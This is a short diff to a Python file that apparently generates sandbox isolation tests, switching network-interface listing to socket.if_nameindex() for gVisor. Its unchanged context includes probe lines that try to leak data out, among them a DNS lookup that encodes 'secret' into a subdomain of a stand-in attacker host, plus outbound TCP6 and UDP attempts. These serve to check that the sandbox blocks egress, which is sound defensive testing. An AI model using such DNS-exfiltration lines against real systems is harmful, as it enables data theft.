@@ -401,8 +401,7 @@ def _network() -> list[Case]:
         "attempt('udp', udp)",
         "attempt('dns', lambda: socket.getaddrinfo('c2VjcmV0.leak.evil.example', 80))",
         "attempt('tcp6', lambda: socket.create_connection(('2001:4860:4860::8888', 53), 3).close())",
-        "import os",
-        "res['interfaces'] = sorted(os.listdir('/sys/class/net'))",
+        "res['interfaces'] = sorted(n for _, n in socket.if_nameindex())",  # (gVisor: no /sys/class/net)
         "open('backend/probe/net-py', 'w').write(json.dumps(res))",
         "",
     ])
@@ -569,8 +568,8 @@ def _persistence() -> list[Case]:
         "    with pytest.raises(OSError):",
         "        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('@@HOST@@', @@UDP@@))",
         "",
-        "def test_verification_only_loopback():",
-        "    assert sorted(os.listdir('/sys/class/net')) == ['lo']",
+        "def test_verification_only_loopback():",  # the kernel's interface list (gVisor has
+        "    assert [n for _, n in socket.if_nameindex()] == ['lo']",  # no /sys/class/net)
         "",
         "@pytest.mark.parametrize('path', ['/workspace/frontend/v.js', '/workspace/v.txt',",
         "                                  '/workspace/backend/v.txt', '/workspace/issues.md',",
